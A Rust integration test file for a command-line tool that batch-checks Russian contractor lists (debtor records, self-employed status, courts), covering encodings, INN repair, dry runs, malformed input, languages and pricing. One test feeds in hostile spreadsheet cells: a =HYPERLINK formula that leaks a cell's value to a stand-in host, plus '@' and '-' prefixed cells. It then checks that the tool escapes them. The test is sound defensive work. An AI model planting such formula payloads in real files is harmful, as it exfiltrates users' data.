//! `proverka batch` on lists as the people who keep them have them: a Russian Excel CSV
//! (Windows-1251, one ФИО column), hostile cells, INNs that lost a zero, dry runs, malformed
//! files, richer results, Russian and English, prices through a proxy; the outputs read back
//! with the `csv` crate and openpyxl (workbooks: tests/workbooks.rs).

use proverka_core::Provider;
use proverka_sandbox::Fault;

mod common;

use common::*;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_russian_excel_csv_with_one_fio_column_and_hostile_cells() {
    let s = sandbox().await;
    let d = dir("cp1251");
    let input = d.join("подрядчики.csv");
    let (debtor_last, debtor_first, debtor_birth) = proverka_fssp::sandbox::DEBTOR;
    let text = format!(
        "ФИО;Дата рождения;Комментарий\r\n\
         {debtor_last} {debtor_first} Петрович;{debtor_birth};\"=HYPERLINK(\"\"http://x/?leak=\"\"&A2;\"\"Click\"\")\"\r\n\
         Мамедов Рашид Али оглы;01.01.1990;@SUM(A1:A9)\r\n\
         Иванов;01.01.1990;-5\r\n"
    );
    let (bytes, _, unmappable) = encoding_rs::WINDOWS_1251.encode(&text);
    assert!(!unmappable);
    std::fs::write(&input, &bytes).unwrap();
    let out = d.join("result.csv");
    let mut c = ru(&s);
    batch(&mut c, &input, "fssp-physical", &out);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let raw = std::fs::read(&out).unwrap();
    assert!(
        raw.starts_with(b"\xEF\xBB\xBF"),
        "UTF-8 with a BOM for Excel"
    );
    let rows = read_csv(&out, b';');
    assert_eq!(rows[0][0].trim_start_matches('\u{feff}'), "ФИО");
    assert_eq!(
        column(&rows, "статус"),
        ["готово", "готово", "неверная строка"],
        "{:?}",
        column(&rows, "ошибка")
    );
    // Split as written: the Turkic patronymic kept whole; one word refused, saying how.
    assert!(
        column(&rows, "ошибка")[2].contains("разнесите по колонкам"),
        "{rows:?}"
    );
    assert!(
        column(&rows, "примечание")[1].contains("отчество «Али оглы» не отправлено"),
        "{rows:?}"
    );
    assert_eq!(s.calls(Provider::Fssp), 2);
    // No cell starts a formula, from the input or otherwise.
    assert_eq!(
        column(&rows, "Комментарий"),
        [
            "'=HYPERLINK(\"http://x/?leak=\"&A2;\"Click\")",
            "'@SUM(A1:A9)",
            "'-5"
        ]
    );
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_inn_that_lost_its_leading_zero_is_restored_and_said() {
    let s = sandbox().await;
    let d = dir("inn-zero");
    let input = d.join("inns.csv");
    // An organisation's INN that starts with 0, as a spreadsheet exports it: 9 digits.
    let org = "0274062111";
    assert!(proverka_core::Inn::parse(org).is_ok());
    std::fs::write(&input, format!("ИНН\n{}\n", &org[1..])).unwrap();
    let out = d.join("out.csv");
    let mut c = ru(&s);
    batch(&mut c, &input, "fssp-inn", &out);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let rows = read_csv(&out, b';');
    assert_eq!(column(&rows, "статус"), ["готово"]);
    assert!(
        column(&rows, "примечание")[0].contains(&format!("восстановлен как {org}")),
        "{rows:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dry_run_lists_what_is_wrong_and_fails_when_nothing_can_be_sent() {
    let s = sandbox().await;
    let d = dir("dry-nothing");
    let input = d.join("list.csv");
    std::fs::write(
        &input,
        "ФИО;Дата рождения\nИванов;01.01.1990\nПетров;31.02.1990\n",
    )
    .unwrap();
    let out = d.join("out.csv");
    let report = d.join("invalid.csv");
    let mut c = ru(&s);
    batch(&mut c, &input, "fssp-physical", &out);
    c.arg("--dry-run").arg("--report").arg(&report);
    let (code, log) = run(c).await;
    assert_eq!(code, 2, "no row can be sent: {log}");
    assert!(
        log.contains("строка 2: ") && log.contains("строка 3: "),
        "{log}"
    );
    assert!(log.contains("ни одну строку"), "{log}");
    let rows = read_csv(&report, b';');
    assert_eq!(column(&rows, "строка"), ["2", "3"]);
    // Nothing behind: no output, no store beside it.
    let left: Vec<_> = std::fs::read_dir(&d)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    let mut left = left;
    left.sort();
    assert_eq!(left, ["invalid.csv", "list.csv"]);
    assert_eq!(s.calls(Provider::Fssp), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_lists_are_refused_with_the_line_and_what_to_do() {
    let s = sandbox().await;
    let d = dir("malformed");
    let out = d.join("out.csv");
    for (name, text, says) in [
        (
            "quote.csv",
            "ИНН;Комментарий\n1;\"не закрыта\n2;x\n3;y\n",
            "line 2: a quote",
        ),
        (
            "beyond.csv",
            "ИНН;ФИО\n1;Иванов;лишнее\n",
            "line 2: a value in column C",
        ),
        (
            "twins.csv",
            "ИНН;inn\n1;2\n",
            "columns A («ИНН») and B («inn») both give inn",
        ),
    ] {
        let input = d.join(name);
        std::fs::write(&input, text).unwrap();
        let mut c = ru(&s);
        batch(&mut c, &input, "npd", &out);
        let (code, log) = run(c).await;
        assert_eq!(code, 2, "{name}: {log}");
        assert!(log.contains(says), "{name}: {log}");
    }
    assert_eq!(s.calls(Provider::Npd), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_off_checks_take_dates_either_way_as_batches_do() {
    let s = sandbox().await;
    let mut npd = ru(&s);
    npd.args([
        "npd",
        "--inn",
        proverka_npd::sandbox::PAYER,
        "--date",
        "01.03.2024",
    ]);
    let out = npd.output().await.unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The answer's columns, read from its model, and the day checked.
    let shown = String::from_utf8_lossy(&out.stdout);
    let field = |name: &str| {
        shown
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .map(str::trim)
            .unwrap_or_default()
            .to_owned()
    };
    assert_eq!(field("self_employed"), "true", "{shown}");
    assert_eq!(field("checked_on"), "2024-03-01", "{shown}");
    let (last, first, born) = proverka_fssp::sandbox::DEBTOR;
    // 31.03.1980 written the ISO way.
    let iso = format!("{}-{}-{}", &born[6..], &born[3..5], &born[..2]);
    let mut fssp = ru(&s);
    fssp.args([
        "fssp",
        "physical",
        "--lastname",
        last,
        "--firstname",
        first,
        "--birthdate",
        &iso,
    ]);
    let (code, log) = run(fssp).await;
    assert_eq!(code, 0, "{log}");
    assert_eq!(s.calls(Provider::Fssp), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn results_carry_proceedings_courts_addresses_and_the_date_checked() {
    let s = sandbox().await;
    let d = dir("rich");
    // FSSP: the known debtor's proceedings, a sheet of their own linked to the input row.
    let (last, first, born) = proverka_fssp::sandbox::DEBTOR;
    let (clean_last, clean_first, clean_born) = proverka_fssp::sandbox::CLEAN;
    let people = d.join("people.csv");
    std::fs::write(
        &people,
        format!("Фамилия;Имя;Дата рождения\n{clean_last};{clean_first};{clean_born}\n{last};{first};{born}\n"),
    )
    .unwrap();
    let xlsx = d.join("debts.xlsx");
    let mut c = ru(&s);
    batch(&mut c, &people, "fssp-physical", &xlsx);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let book = openpyxl(&xlsx);
    assert_eq!(sheet_names(&book), ["Проверка", "Производства", "Итог"]);
    let proceedings = &book[1];
    let lines = sheet_column(proceedings, "строка");
    assert!(!lines.is_empty());
    assert!(
        lines.iter().all(|l| *l == serde_json::json!(["n", 3])),
        "every proceeding is the debtor's, on line 3: {lines:?}"
    );
    let sums: f64 = sheet_column(proceedings, "сумма, ₽")
        .iter()
        .map(|c| c[1].as_f64().unwrap())
        .sum();
    let debt = sheet_column(&book[0], "долг, ₽")[1][1].as_f64().unwrap();
    assert!((sums - debt).abs() < 0.005, "{sums} vs {debt}");
    assert_eq!(sheet_column(proceedings, "дата")[0][0], "d");
    assert!(
        sheet_column(proceedings, "номер производства")[0][1]
            .as_str()
            .unwrap()
            .ends_with("-ИП")
    );
    // The same as CSV: the proceedings in a second file.
    let csv = d.join("debts.csv");
    let mut c = ru(&s);
    batch(&mut c, &people, "fssp-physical", &csv);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let second = read_csv(&d.join("debts.proceedings.csv"), b';');
    assert_eq!(second.len() - 1, lines.len());
    assert!(column(&second, "строка").iter().all(|l| l == "3"));

    // And as JSON lines: the proceedings beside, each naming its row.
    let jsonl = d.join("debts.jsonl");
    let mut c = ru(&s);
    batch(&mut c, &people, "fssp-physical", &jsonl);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let beside = std::fs::read_to_string(d.join("debts.proceedings.jsonl")).unwrap();
    let objects: Vec<serde_json::Value> = beside
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(objects.len(), lines.len());
    assert!(objects.iter().all(|o| o["строка"] == 3), "{objects:?}");

    // Court: each court's name, address and phone.
    let addresses = d.join("addresses.csv");
    std::fs::write(
        &addresses,
        format!("Адрес\n\"{}\"\n", proverka_court::sandbox::ADDRESS_FOUND),
    )
    .unwrap();
    let courts = d.join("courts.csv");
    let mut c = ru(&s);
    batch(&mut c, &addresses, "court", &courts);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let rows = read_csv(&courts, b';');
    for field in [
        "адрес районного суда",
        "телефон районного суда",
        "адрес мирового участка",
        "телефон мирового участка",
    ] {
        assert!(!column(&rows, field)[0].is_empty(), "{field}: {rows:?}");
    }

    // NPD: the date the status holds on, even when the list gave none.
    let inns = d.join("inns.csv");
    std::fs::write(
        &inns,
        format!(
            "ИНН;Дата\n{};01.03.2024\n{};\n",
            proverka_npd::sandbox::PAYER,
            proverka_npd::sandbox::NON_PAYER
        ),
    )
    .unwrap();
    let npd = d.join("npd.csv");
    let mut c = ru(&s);
    batch(&mut c, &inns, "npd", &npd);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let rows = read_csv(&npd, b';');
    let checked = column(&rows, "дата проверки НПД");
    assert_eq!(checked[0], "2024-03-01");
    assert_eq!(checked[1].len(), 10, "today in Moscow: {checked:?}");
    assert_eq!(column(&rows, "источник"), ["провайдер", "провайдер"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rows_are_explained_in_russian_by_default_and_in_english_on_request() {
    let s = sandbox().await;
    let d = dir("lang");
    let input = d.join("inns.csv");
    let with_letter_o = proverka_npd::sandbox::NON_PAYER.replacen('0', "О", 1);
    std::fs::write(
        &input,
        format!(
            "ИНН\n{}\n{with_letter_o}\n7707083893\n",
            proverka_npd::sandbox::PAYER
        ),
    )
    .unwrap();
    let out = d.join("ru.csv");
    let mut c = ru(&s);
    batch(&mut c, &input, "npd", &out);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let rows = read_csv(&out, b';');
    assert_eq!(
        column(&rows, "статус"),
        ["готово", "неверная строка", "неверная строка"]
    );
    let errors = column(&rows, "ошибка");
    assert!(errors[1].contains("буква «О» вместо цифры 0"), "{errors:?}");
    assert!(errors[2].contains("это ИНН организации"), "{errors:?}");
    assert_eq!(column(&rows, "оплата")[..2], ["оплачено", "бесплатно"]);
    let out = d.join("en.csv");
    let mut c = ru(&s);
    c.args(["--lang", "en"]);
    batch(&mut c, &input, "npd", &out);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let rows = read_csv(&out, b';');
    assert_eq!(column(&rows, "status"), ["ok", "invalid", "invalid"]);
    // Another output, another batch and store (direct mode): asked again.
    assert_eq!(column(&rows, "source")[0], "provider");
    assert!(
        column(&rows, "error_message")[1].contains("INN"),
        "{rows:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn through_a_proxy_a_price_is_the_proxy_s_or_said_to_be_unknown() {
    let s = sandbox().await;
    // NPD priced (1.50); the court without a price.
    let url = start_proxy(
        &s,
        &proverka_testkit::own_store(),
        &format!(
            "[providers.court]\nbase_url = \"{}\"\ntoken = \"court-token\"\n",
            s.url()
        ),
    )
    .await;
    let d = dir("proxy-price");
    let inns = d.join("inns.csv");
    std::fs::write(&inns, format!("ИНН\n{}\n", proverka_npd::sandbox::PAYER)).unwrap();
    let out = d.join("npd.csv");
    let mut c = ru(&s);
    c.args(["--proxy", &url]);
    batch(&mut c, &inns, "npd", &out);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let rows = read_csv(&out, b';');
    assert_eq!(column(&rows, "цена, ₽"), ["1.50"]);

    let addresses = d.join("addresses.csv");
    std::fs::write(
        &addresses,
        format!("Адрес\n\"{}\"\n", proverka_court::sandbox::ADDRESS_FOUND),
    )
    .unwrap();
    let out = d.join("courts.csv");
    let mut c = ru(&s);
    c.args(["--proxy", &url]);
    batch(&mut c, &addresses, "court", &out);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let rows = read_csv(&out, b';');
    assert_eq!(column(&rows, "оплата"), ["оплачено"]);
    assert_eq!(column(&rows, "цена, ₽"), [""], "not 0.00");
    assert!(
        column(&rows, "примечание")[0].contains("цена неизвестна"),
        "{rows:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_row_says_in_russian_what_happened_and_whether_it_was_paid() {
    let s = sandbox().await;
    let d = dir("ru-failures");
    let input = d.join("inns.csv");
    std::fs::write(
        &input,
        format!(
            "ИНН;Дата\n{};01.03.2024\n{};01.03.2024\n",
            proverka_npd::sandbox::PAYER,
            proverka_npd::sandbox::NON_PAYER
        ),
    )
    .unwrap();
    // The source cannot answer (success = 0, free, re-sent until the attempts run out).
    s.inject(Provider::Npd, Fault::SuccessZero, None);
    let out = d.join("out.csv");
    let mut c = ru(&s);
    batch(&mut c, &input, "npd", &out);
    c.args(["--concurrency", "1"]);
    let (code, log) = run(c).await;
    assert_eq!(code, 1, "{log}");
    assert!(log.contains("строк с ошибкой: 2"), "{log}");
    let rows = read_csv(&out, b';');
    let failed = column(&rows, "статус")
        .iter()
        .position(|st| st == "повторить позже")
        .unwrap_or_else(|| panic!("{rows:?}"));
    assert!(
        column(&rows, "ошибка")[failed].contains("не удалось получить информацию от источника"),
        "{rows:?}"
    );
    assert_eq!(column(&rows, "оплата")[failed], "бесплатно");

    // Sent again: one answer is cut after it was billed.
    s.clear_faults();
    s.inject(Provider::Npd, Fault::TruncatedAfterBilling, Some(1));
    let (code, log) = run({
        let mut c = ru(&s);
        batch(&mut c, &input, "npd", &out);
        c.arg("--retry-failed");
        c
    })
    .await;
    assert_eq!(code, 1, "{log}");
    let rows = read_csv(&out, b';');
    let unknown = column(&rows, "статус")
        .iter()
        .position(|st| st == "оплата неизвестна")
        .unwrap_or_else(|| panic!("{rows:?}"));
    assert!(
        column(&rows, "ошибка")[unknown].contains("оплата неизвестна"),
        "{rows:?}"
    );
    assert_eq!(column(&rows, "оплата")[unknown], "неизвестно");
}
